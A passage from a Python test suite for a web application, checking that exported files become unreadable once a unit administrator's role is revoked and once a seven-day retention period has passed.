    assert response.status_code == 302
    assert client.get(response.location + "/file").status_code == 200
    # the unit administrator's role is revoked: the file they made is no longer theirs to read
    for assignment in db.session.scalars(sa.select(RoleAssignment).where(RoleAssignment.person_id == world["ua"].id,
                                                                         RoleAssignment.role == "unit_admin")):
        db.session.delete(assignment)
    db.session.commit()
    assert client.get(response.location + "/file").status_code == 404

    mine = login(app, trainer.email)
    exported = mine.post(url(class_of, "learners/export"), data={})
    assert mine.get(exported.location + "/file").status_code == 200
    job = db.session.scalar(sa.select(Job).where(Job.actor_id == trainer.id))
    job.finished_at = job.finished_at - timedelta(days=8)  # kept 7 days
    db.session.commit()
    assert mine.get(exported.location + "/file").status_code == 404
